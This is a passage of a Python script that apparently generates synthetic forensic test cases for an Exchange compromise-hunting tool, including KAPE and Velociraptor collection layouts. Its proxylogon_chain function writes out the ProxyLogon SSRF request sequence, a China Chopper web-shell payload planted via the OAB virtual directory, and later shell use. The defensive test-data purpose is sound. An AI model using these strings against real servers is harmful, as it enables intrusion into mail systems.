        rng = random.Random("clean-patched/EXSE01/" + day.strftime("%Y-%m-%d"))
        add_day_logs(fs, srv, day, day_traffic(srv, day, rng, 1, 1, 3, admin=0.3, per_hour_weekend=1), rng, counts)
    write_tree(out, fs)
    fix_folder_times(out, d(2026, 12, 1, 9, 20))
    return fs


# --- iis-only --------------------------------------------------------------

IIS_SITE = {
    "inetpub/wwwroot/web.config":
        '<?xml version="1.0" encoding="utf-8"?>\r\n<configuration>\r\n  <system.web>\r\n'
        '    <compilation debug="false" targetFramework="4.7.2" />\r\n'
        '    <httpRuntime targetFramework="4.7.2" />\r\n'
        '    <customErrors mode="RemoteOnly" defaultRedirect="/error.htm" />\r\n  </system.web>\r\n'
        '  <system.webServer>\r\n    <defaultDocument>\r\n      <files>\r\n        <clear />\r\n'
        '        <add value="default.aspx" />\r\n        <add value="iisstart.htm" />\r\n'
        '      </files>\r\n    </defaultDocument>\r\n    <httpProtocol>\r\n      <customHeaders>\r\n'
        '        <remove name="X-Powered-By" />\r\n      </customHeaders>\r\n    </httpProtocol>\r\n'
        '  </system.webServer>\r\n  <location path="staff">\r\n    <system.web>\r\n'
        '      <authorization>\r\n        <deny users="?" />\r\n      </authorization>\r\n'
        '    </system.web>\r\n  </location>\r\n</configuration>\r\n',
    "inetpub/wwwroot/default.aspx":
        '<%@ Page Language="C#" AutoEventWireup="true" CodeBehind="Default.aspx.cs" '
        'Inherits="ContosoIntranet._Default" %>\r\n<!DOCTYPE html>\r\n<html>\r\n<head runat="server">\r\n'
        '  <title>Contoso intranet</title>\r\n  <link rel="stylesheet" href="/css/site.css" />\r\n</head>\r\n'
        '<body>\r\n  <form id="form1" runat="server">\r\n    <h1>Contoso intranet</h1>\r\n'
        '    <asp:Repeater ID="NewsList" runat="server">\r\n      <ItemTemplate>\r\n'
        '        <p><a href="news.aspx?id=<%# Eval("Id") %>"><%#: Eval("Title") %></a></p>\r\n'
        '      </ItemTemplate>\r\n    </asp:Repeater>\r\n  </form>\r\n  <script src="/js/site.js"></script>\r\n'
        '</body>\r\n</html>\r\n',
    "inetpub/wwwroot/news.aspx":
        '<%@ Page Language="C#" AutoEventWireup="true" CodeBehind="News.aspx.cs" '
        'Inherits="ContosoIntranet.News" %>\r\n<!DOCTYPE html>\r\n<html>\r\n<head runat="server">\r\n'
        '  <title>News</title>\r\n  <link rel="stylesheet" href="/css/site.css" />\r\n</head>\r\n<body>\r\n'
        '  <form id="form1" runat="server">\r\n    <h1><asp:Literal ID="Headline" runat="server" Mode="Encode" />'
        '</h1>\r\n    <asp:Literal ID="Body" runat="server" Mode="Encode" />\r\n  </form>\r\n</body>\r\n</html>\r\n',
    "inetpub/wwwroot/staff/directory.aspx":
        '<%@ Page Language="C#" AutoEventWireup="true" CodeBehind="Directory.aspx.cs" '
        'Inherits="ContosoIntranet.Staff.Directory" %>\r\n<!DOCTYPE html>\r\n<html>\r\n'
        '<head runat="server"><title>Staff directory</title></head>\r\n<body>\r\n'
        '  <form id="form1" runat="server">\r\n    <asp:GridView ID="People" runat="server" '
        'AutoGenerateColumns="true" />\r\n  </form>\r\n</body>\r\n</html>\r\n',
    "inetpub/wwwroot/contact.asp":
        '<%@ Language="VBScript" %>\r\n<%\r\nOption Explicit\r\nDim sent\r\n'
        'sent = (Request.ServerVariables("REQUEST_METHOD") = "POST")\r\n%>\r\n<html>\r\n'
        '<head><title>Contact the help desk</title><link rel="stylesheet" href="/css/site.css"></head>\r\n'
        '<body>\r\n<% If sent Then %>\r\n<p>Thank you, <%= Server.HTMLEncode(Request.Form("name")) %>. '
        'The help desk will call you back.</p>\r\n<% Else %>\r\n<form method="post" action="contact.asp">\r\n'
        '  <label>Name <input name="name"></label>\r\n  <label>Extension <input name="ext"></label>\r\n'
        '  <button type="submit">Send</button>\r\n</form>\r\n<% End If %>\r\n</body>\r\n</html>\r\n',
    "inetpub/wwwroot/css/site.css":
        'body { font-family: "Segoe UI", Tahoma, sans-serif; margin: 0 2em; color: #222; }\r\n'
        'h1 { color: #0a4d8c; }\r\na { color: #0a4d8c; }\r\n',
    "inetpub/wwwroot/js/site.js":
        '// Contoso intranet: highlight the current menu entry\r\n(function () {\r\n'
        '  var links = document.querySelectorAll("nav a");\r\n'
        '  for (var i = 0; i < links.length; i++) {\r\n'
        '    if (links[i].pathname === location.pathname) { links[i].className = "current"; }\r\n  }\r\n})();\r\n',
    "inetpub/wwwroot/error.htm":
        '<!DOCTYPE html>\r\n<html><head><title>Sorry</title></head>\r\n'
        '<body><p>Something went wrong. Please try again later.</p></body></html>\r\n',
    "inetpub/custerr/en-US/404.htm":
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
        '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\r\n<html xmlns="http://www.w3.org/1999/xhtml">\r\n'
        '<head><title>404 - File or directory not found.</title></head>\r\n'
        '<body><h2>404 - File or directory not found.</h2></body>\r\n</html>\r\n',
    "inetpub/custerr/en-US/401.htm":
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
        '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\r\n<html xmlns="http://www.w3.org/1999/xhtml">\r\n'
        '<head><title>401 - Unauthorized: Access is denied due to invalid credentials.</title></head>\r\n'
        '<body><h2>401 - Unauthorized: Access is denied due to invalid credentials.</h2></body>\r\n</html>\r\n',
}

# A 1x1 transparent PNG (stands in for IIS's iisstart.png and small images).
PNG_1X1 = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
    "0000000d49444154789c6360000002000154a24f5f0000000049454e44ae426082")


def iis_site_day(srv, day, rng):
    ua = srv.era
    reqs = []
    for k in range(rng.randint(6, 10)):
        u = rng.choice(USERS)
        browser = ua["browser"] if k % 3 else ua["browser2"]
        t = day + dt.timedelta(hours=rng.randint(7, 17), minutes=rng.randint(0, 59), seconds=rng.randint(0, 59))
        page = rng.choice(["/", "/news.aspx", "/staff/directory.aspx", "/contact.asp"])
        if page == "/":
            reqs.append(Req(t, "GET", "/", u.ip, browser, 200, taken=rng.randint(40, 160), cafe=False))
            for asset in ("/css/site.css", "/js/site.js"):
                reqs.append(Req(t, "GET", asset, u.ip, browser, rng.choice([200, 304]), taken=rng.randint(1, 6),
                                referer="http://intranet.contoso.local/", cafe=False))
            if rng.random() < 0.3:
                reqs.append(Req(t, "GET", "/favicon.ico", u.ip, browser, 404, taken=1, sub=0, win32=2,
                                referer="http://intranet.contoso.local/", cafe=False))
        elif page == "/news.aspx":
            reqs.append(Req(t, "GET", page, u.ip, browser, 200, query="id=%d" % rng.randint(100, 400),
                            taken=rng.randint(30, 120), referer="http://intranet.contoso.local/", cafe=False))
        elif page == "/staff/directory.aspx":
            reqs.append(Req(t, "GET", page, u.ip, browser, 401, sub=2, win32=5, taken=2, cafe=False))
            t = step(t, rng, 0, 1)
            reqs.append(Req(t, "GET", page, u.ip, browser, 200, user=u.nt, taken=rng.randint(60, 300), cafe=False))
        else:
            reqs.append(Req(t, "GET", page, u.ip, browser, 200, taken=rng.randint(10, 40), cafe=False))
            t = step(t, rng, 20, 60)
            reqs.append(Req(t, "POST", page, u.ip, browser, 200, taken=rng.randint(20, 80),
                            referer="http://intranet.contoso.local/contact.asp", cafe=False))
    # the monitoring system's probe
    for h in (6, 12, 18):
        t = day + dt.timedelta(hours=h, minutes=0, seconds=rng.randint(0, 9))
        reqs.append(Req(t, "GET", "/iisstart.htm", "10.20.0.8", "Mozilla/4.0 (compatible; PRTG Network Monitor)",
                        200, taken=rng.randint(0, 3), cafe=False))
    return reqs


def make_iis_only(out, counts):
    srv = Server("iis-only", "WEB01", "192.0.2.50", [], 2018)
    fs = FileSet()
    installed = d(2017, 11, 20, 14, 3, 22)
    with open(os.path.join(CLEAN_EXAMPLE, "inetpub/wwwroot/iisstart.htm"), "rb") as f:
        fs.add("inetpub/wwwroot/iisstart.htm", f.read(), d(2017, 11, 14, 10, 2, 51))
    fs.add("inetpub/wwwroot/iisstart.png", PNG_1X1, d(2017, 11, 14, 10, 2, 51))
    for rel, text in sorted(IIS_SITE.items()):
        fs.add(rel, text.encode("ascii"), d(2017, 11, 14, 10, 2, 51) if "custerr" in rel else installed)
    fs.add_dir("inetpub/wwwroot/aspnet_client/system_web/4_0_30319")
    fs.add_dir("inetpub/temp/appPools")
    sample = list(days(d(2018, 1, 1), d(2020, 12, 31)))[::7]
    if sample[-1] != d(2020, 12, 31):
        sample.append(d(2020, 12, 31))
    for day in sample:
        era = 2018 if day.year < 2020 else 2021
        srv.era = ERAS[era]
        rng = random.Random("iis-only/WEB01/" + day.strftime("%Y-%m-%d"))
        reqs = iis_site_day(srv, day, rng)
        add_day_logs(fs, srv, day, reqs, rng, counts, httpproxy=False)
    write_tree(out, fs)
    fix_folder_times(out, d(2021, 1, 4, 10, 30))
    return fs


# --- two-hosts -------------------------------------------------------------

def proxylogon_chain(srv, build, day, rng):
    """The ProxyLogon chain as examples/compromised-exchange logs it, on this host and day."""
    reqs = []
    t = day + dt.timedelta(hours=5, minutes=12, seconds=7, milliseconds=318)
    ssrf = ["autodiscover/autodiscover.xml?#", "mapi/emsmdb/?#", "ecp/proxyLogon.ecp?#",
            "ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&msExchEcpCanary=%s#",
            "ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=%s#",
            "ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=%s#",
            "ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=%s#"]
    canary = "Wq3nB7xR2kLp9sD4vF1hJ6tY8mC0gZ5eA2uN7bQ4wE."
    vdir_guid = "3f6a1c2e-8b4d-4e7a-9c15-0d2b7e4f6a91"
    script = ('http://f/<script language="JScript" runat="server">function Page_Load()'
              '{eval(Request["Kx7mQp2r"],"unsafe");}</script>')
    ecp_cmds = {
        3: ("Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null", "GetObject", "OABVirtualDirectory"),
        4: ("Set-OabVirtualDirectory.ExternalUrl='%s'.Identity='%s'" % (script, vdir_guid), "SetObject",
            "OABVirtualDirectory"),
        5: ("New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='%s'.Role='ClientAccess'."
            "InternalURL='https://%s/OAB'.Path='C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd"
            "\\HttpProxy\\OAB'" % (srv.name, srv.fqdn), "SetObject", "ResetOABVirtualDirectory"),
        6: ("Set-OabVirtualDirectory.ExternalUrl=$null.Identity='%s'" % vdir_guid, "SetObject",
            "OABVirtualDirectory"),
    }
    for i, path in enumerate(ssrf):
        if "%s" in path:
            path = path % canary
        ua = "ExchangeServicesClient/0.0.0.0" if i == 0 else "python-requests/2.25.1"
        status = 241 if "proxyLogon" in path else 200
        taken = [61, 48, 322, 540, 1874, 3921, 1502][i]
        r = Req(t, "POST", "/ecp/y.js", ATTACKER, ua, status, taken=taken,
                hp=dict(Protocol="Ecp", anchor="ServerInfo~a]@%s:444/%s" % (srv.fqdn, path), proxied=True,
                        hint="X-BEResource-Cookie", req_bytes=rng.randint(220, 800),
                        resp_bytes=rng.randint(5000, 12000)))
        if i in ecp_cmds:
            cmd, verb, schema = ecp_cmds[i]
            r.ecp = (cmd, "/ecp/DDI/DDIService.svc/%s?schema=%s&msExchEcpCanary=%s" % (verb, schema, canary))
        reqs.append(r)
        t = step(t, rng, 2, 5)
    # the reset (step 5) also logs Get- and Remove- before New-OABVirtualDirectory, as the examples show
    reset = reqs[5]
    ecp_only = []
    for k, cmd in enumerate(("Get-OABVirtualDirectory.Identity='%s'" % vdir_guid,
                             "Remove-OABVirtualDirectory.Force=$true.Identity='%s\\OAB (Default Web Site)'"
                             % srv.name)):
        extra = Req(reset.t - dt.timedelta(milliseconds=600 - 280 * k), "POST", "/ecp/y.js", ATTACKER,
                    "python-requests/2.25.1", 200, taken=80)
        extra.ecp = (cmd, reset.ecp[1])
        ecp_only.append(extra)  # an ECP Server line only: no IIS line, no HttpProxy row
    # the China Chopper planted by the reset, checked and then used
    shell = "/aspnet_client/Kx7mQp2r.aspx"
    t = step(t, rng, 8, 12)
    reqs.append(Req(t, "GET", shell, ATTACKER, "python-requests/2.25.1", 200, taken=142, cafe=False))
    for _ in range(4):
        t = step(t, rng, 9, 40)
        reqs.append(Req(t, "POST", shell, ATTACKER, "antSword/v2.1", 200, taken=rng.randint(150, 2900),
                        cafe=False))
    return reqs, ecp_only, reset.t


def host_ex01():
    srv = exch_server("two-hosts", [(d(2020, 10, 6), CU18)], name="EX01", ip="192.0.2.31", ecp_log=True)
    fs = FileSet()
    add_exchange_web(fs, CU18, d(2020, 10, 6, 19, 48, 2), d(2020, 5, 11, 11, 20, 35))
    counts = Counts()
    for day in days(d(2021, 3, 1), d(2021, 3, 4)):
        rng = random.Random("two-hosts/EX01/" + day.strftime("%Y-%m-%d"))
        reqs = day_traffic(srv, day, rng, 3, 1, 3)
        ecp_only = []
        if day == d(2021, 3, 3):
            web, ecp_only, reset_at = proxylogon_chain(srv, srv.build_on(day), day, rng)
            reqs += web
        add_day_logs(fs, srv, day, reqs, rng, counts, ecp_only=ecp_only)
    shell = os.path.join(COMPROMISED_EXAMPLE, "inetpub/wwwroot/aspnet_client/system_web/Kx7mQp2r.aspx")
    with open(shell, "rb") as f:
        # written by the OAB virtual-directory reset, half a second after its request
        fs.add("inetpub/wwwroot/aspnet_client/Kx7mQp2r.aspx", f.read(), reset_at + dt.timedelta(milliseconds=431))
    return fs, counts


def host_ex02():
    srv = Server("two-hosts", "EX02", "192.0.2.32", [(d(2022, 3, 9), CU22_MAR22SU)], 2022, ecp_log=True)
    fs = FileSet()
    add_exchange_web(fs, CU22_MAR22SU, d(2021, 10, 19, 20, 5, 44), d(2020, 5, 12, 9, 41, 3))
    counts = Counts()
    for day in days(d(2022, 3, 20), d(2022, 3, 25)):
        rng = random.Random("two-hosts/EX02/" + day.strftime("%Y-%m-%d"))
        add_day_logs(fs, srv, day, day_traffic(srv, day, rng, 3, 1, 3), rng, counts)
    return fs, counts


def velo_component(c):
    # Velociraptor's SanitizeString: keep A-Z a-z 0-9 - _ . ~ space $, escape the rest as %XX;
    # a leading or trailing "." is escaped too.
    out = []
    for ch in c.encode("utf-8"):
        ok = chr(ch).isalnum() and ch < 128 or chr(ch) in "-_.~ $"
        out.append(chr(ch) if ok else "%%%02X" % ch)
    s = "".join(out)
    if s.startswith("."):
        s = "%2E" + s[1:]
    if s.endswith("."):
        s = s[:-1] + "%2E"
    return s


def velo_mapper(rel):
    return "uploads/auto/C%3A/" + "/".join(velo_component(c) for c in rel.split("/"))


def win_path(rel):
    return "C:\\" + rel.replace("/", "\\")


def kape_logs(fs, host, root, started):
    """The console and copy logs KAPE writes at the top of its target destination."""
    stamp = started.strftime("%Y-%m-%dT%H%M%S")
    tdest = "E:\\kape\\" + host
    rows = ["CopiedTimestamp,SourceFile,DestinationFile,FileSize,SourceFileSha1,DeferredCopy,CreatedOnUtc,"
            "ModifiedOnUtc,LastAccessedOnUtc,CopyDuration"]
    t = started + dt.timedelta(seconds=2)
    for rel in sorted(fs.files):
        data, mtime = fs.files[rel]
        t += dt.timedelta(microseconds=1713)
        mt = mtime.strftime("%Y-%m-%d %H:%M:%S.") + "%07d" % (mtime.microsecond * 10)
        rows.append(",".join(csv_field(v) for v in (
            t.strftime("%Y-%m-%d %H:%M:%S.") + "%07d" % (t.microsecond * 10), win_path(rel),
            tdest + "\\C\\" + rel.replace("/", "\\"), len(data), hashlib.sha1(data).hexdigest().upper(),
            "False", mt, mt, started.strftime("%Y-%m-%d %H:%M:%S.0000000"), "00:00:00.0009417")))
    end = t + dt.timedelta(seconds=1)
    console = [
        "KAPE version %s, Author: Eric Zimmerman, Contact: https://www.kroll.com/kape (kape@kroll.com)"
        % ("1.0.0.3" if started.year == 2021 else "1.1.0.1"),
        "",
        "KAPE directory: E:\\KAPE",
        "Command line:   --tsource C: --tdest %s --target IISLogFiles,Exchange,ExchangeClientAccess,"
        "WebServers --gui" % tdest,
        "",
        "System info: Machine name: %s, 64-bit: True, User: exadmin OS: Windows2016Server (10.0.14393)" % host,
        "",
        "Using Target operations",
        "Found 4 targets. Expanding targets to file list...",
        "Found %d files in 0.812 seconds. Beginning copy..." % len(fs.files),
        "Copied %d out of %d files in %.4f seconds. See '%s_CopyLog.csv' for copy details"
        % (len(fs.files), len(fs.files), (end - started).total_seconds(), stamp),
        "",
        "Total execution time: %.4f seconds" % ((end - started).total_seconds() + 0.4),
    ]
    extra = FileSet()
    extra.add("%s_CopyLog.csv" % stamp, BOM + crlf(rows), end)
    extra.add("%s_ConsoleLog.txt" % stamp, BOM + crlf(console), end + dt.timedelta(milliseconds=420))
    write_tree(root, extra)


def velo_collection(fs, host, root, started):
    """Write a host as Velociraptor's offline collector lays it out (unzipped)."""
    write_tree(root, fs, mapper=velo_mapper, empty_dirs=False)
    uploads = []
    t = started + dt.timedelta(seconds=3)
    for rel in sorted(fs.files):
        data, _mtime = fs.files[rel]
        comps = ["uploads", "auto", "C:"] + rel.split("/")
        uploads.append(json.dumps({
            "Timestamp": t.strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
            "started": t.strftime("%Y-%m-%d %H:%M:%S.%f +0000 UTC"),
            "vfs_path": win_path(rel), "_Components": comps,
            "file_size": len(data), "uploaded_size": len(data), "Type": ""}, separators=(",", ":")))
        t += dt.timedelta(microseconds=2411)
    end = t + dt.timedelta(seconds=1)
    log = []
    for k, msg in enumerate([
            "Starting collection of Windows.KapeFiles.Targets",
            "Windows.KapeFiles.Targets: Selected targets: _BasicCollection, IISLogFiles, Exchange, "
            "ExchangeClientAccess, WebServers",
            "Windows.KapeFiles.Targets: Collected %d files" % len(fs.files),
            "Collection of Windows.KapeFiles.Targets done in %.1f seconds" % (end - started).total_seconds(),
            "Container hash %s" % hashlib.sha256(host.encode()).hexdigest()]):
        when = started + (end - started) * k / 4
        log.append(json.dumps({"_ts": int(when.timestamp()), "client_time": int(when.timestamp()),
                               "level": "DEFAULT", "message": msg + "\n"}, separators=(",", ":")))
    extra = FileSet()
    extra.add("uploads.json", ("\n".join(uploads) + "\n").encode(), end)
    extra.add("log.json", ("\n".join(log) + "\n").encode(), end)
    write_tree(root, extra)


def make_two_hosts(out, counts):
    ex01, c1 = host_ex01()
    ex02, c2 = host_ex02()
    hosts = [("EX01", ex01, d(2021, 3, 5, 9, 42, 11), d(2021, 3, 5, 10, 3, 27), "20210305"),
             ("EX02", ex02, d(2022, 3, 26, 8, 15, 2), d(2022, 3, 26, 8, 31, 40), "20220326")]
    for host, fs, kape_at, velo_at, day in hosts:
        kroot = os.path.join(out, "kape", host)
        write_tree(kroot, fs, mapper=lambda rel: "C/" + rel, empty_dirs=False)
        kape_logs(fs, host, kroot, kape_at)
        fix_folder_times(kroot, kape_at + dt.timedelta(minutes=1))
        vroot = os.path.join(out, "velo", "Collection-%s-%s" % (host, day))
        velo_collection(fs, host, vroot, velo_at)
        fix_folder_times(vroot, velo_at + dt.timedelta(minutes=1))
    for parent in ("kape", "velo", ""):
        fix_folder_times(os.path.join(out, parent), d(2022, 3, 26, 9), recursive=False)
    for k, v in c1.c.items():
        counts.c["EX01 " + k] = v
    for k, v in c2.c.items():
        counts.c["EX02 " + k] = v
    return None


# --- big -------------------------------------------------------------------

def big_web_files(fs, rng, cu, installed):
    """2,000 small benign files of the kinds an Exchange server holds by the thousand."""
    owa = "%s/ClientAccess/Owa/prem/%s" % (V15, cu)
    ecp = "%s/ClientAccess/ecp" % V15
    modules = ["boot", "calendar", "mail", "people", "tasks", "search", "options", "compose", "reading",
               "notifications"]
    themes = ["base", "blue", "dark", "highcontrast", "orange", "purple", "red", "teal"]
    areas = ["Organize", "Reporting", "UsersGroups", "RulesEditor", "Customize", "MessageTrace", "Security",
             "PublicFolders"]
    n = 0
    for i in range(800):
        mod = modules[i % len(modules)]
        name = "%s/scripts/%s/%s.%04d.js" % (owa, mod, mod, i)
        body = ["/* OWA %s module part %d (exhunt test stand-in) */" % (mod, i),
                "(function (ns) {", "  'use strict';"]
        for k in range(rng.randint(8, 30)):
            body.append("  ns.%s_%d_%d = function (a, b) { return (a || 0) + (b || %d); };" % (mod, i, k, k))
        body.append("})(window.Owa = window.Owa || {});")
        fs.add(name, crlf(body), installed)
        n += 1
    for i in range(500):
        theme = themes[i % len(themes)]
        name = "%s/resources/themes/%s/%s.%04d.css" % (owa, theme, theme, i)
        body = ["/* OWA theme %s sheet %d (exhunt test stand-in) */" % (theme, i)]
        for k in range(rng.randint(10, 40)):
            body.append(".o365cs-%s-%d-%d { color: #%06x; padding: %dpx; }" % (theme, i, k,
                                                                                rng.getrandbits(24), k % 9))
        fs.add(name, crlf(body), installed)
        n += 1
    for i in range(400):
        fs.add("%s/resources/images/%s/icon%04d.png" % (owa, themes[i % len(themes)], i), PNG_1X1, installed)
        n += 1
    for i in range(300):
        area = areas[i % len(areas)]
        page = "%s%04d" % (area, i)
        body = ['<%%@ Page Language="C#" AutoEventWireup="true" Inherits="Microsoft.Exchange.Management.'
                'ControlPanel.%s.%s" MasterPageFile="~/Default.master" %%>' % (area, page),
                "<%-- exhunt test stand-in: an ECP page with its code-behind class and no inline server code --%>",
                '<asp:Content ID="Main" ContentPlaceHolderID="ContentPlaceHolderMain" runat="server">',
                '  <ecp:ListView ID="listView" runat="server" SearchTextMaxLength="256" />',
                "</asp:Content>"]
        fs.add("%s/%s/%s.aspx" % (ecp, area, page), crlf(body), installed)
        n += 1
    assert n == 2000


def make_big(out, counts):
    srv = exch_server("big", [(d(2020, 10, 20), CU18)])
    fs = FileSet()
    installed = d(2020, 10, 20, 21, 14, 7)
    add_exchange_web(fs, CU18, installed, d(2020, 6, 2, 9, 30, 12))
    day = d(2021, 3, 2)
    rng = random.Random("big/EXCH/2021-03-02")
    add_day_logs(fs, srv, day, day_traffic(srv, day, rng, 5, 1, 4), rng, counts)
    big_web_files(fs, random.Random("big/web"), b_cu(CU18), installed)
    # 50 busy IIS days before it, ~1 MB each (the HttpProxy logs of those days were not collected)
    for day in days(d(2021, 1, 11), d(2021, 3, 1)):
        rng = random.Random("big/EXCH/iis/" + day.strftime("%Y-%m-%d"))
        reqs = healthchecks(srv, day, rng, every_min=5)
        size = 0
        while size < 1_000_000:
            for h in range(24):
                base = day + dt.timedelta(hours=h, minutes=rng.randint(0, 50), seconds=rng.randint(0, 59))
                kind = rng.choice(SESSIONS)
                u = MOBILE if kind is eas_session else rng.choice(USERS)
                batch = kind(srv, srv.build_on(day), u, base, rng)
                reqs += batch
                size += 315 * len(batch)  # about the bytes of one IIS line
        add_day_logs(fs, srv, day, reqs, rng, counts, httpproxy=False)
    write_tree(out, fs)
    fix_folder_times(out, d(2021, 3, 3, 9, 12))
    return fs


CASES = {
    "one-day": make_one_day,
    "full-coverage": make_full_coverage,
    "clean-patched": make_clean_patched,
    "iis-only": make_iis_only,
    "two-hosts": make_two_hosts,
    "big": make_big,
}


def tree_size(root):
    files = size = 0
    for dirpath, _dirs, names in os.walk(root):
        for name in names:
            files += 1
            size += os.path.getsize(os.path.join(dirpath, name))
    return files, size


def main(argv):
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--list", action="store_true", help="print the case names and exit")
    ap.add_argument("-q", "--quiet", action="store_true", help="no summary")
    ap.add_argument("outdir", nargs="?")
    ap.add_argument("cases", nargs="*")
    args = ap.parse_args(argv)
    if args.list:
        print("\n".join(CASES))
        return 0
    if not args.outdir:
        ap.error("OUTDIR is required")
    unknown = [c for c in args.cases if c not in CASES]
    if unknown:
        ap.error("unknown case(s): %s (see --list)" % ", ".join(unknown))
    for name in args.cases or list(CASES):
        out = os.path.join(args.outdir, name)
        if os.path.lexists(out):
            shutil.rmtree(out)
        os.makedirs(out)
        counts = Counts()
        CASES[name](out, counts)
        if not args.quiet:
            files, size = tree_size(out)
            print("%-13s %5d files %6.1f MB  %s" % (name, files, size / 1e6, counts.text()))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
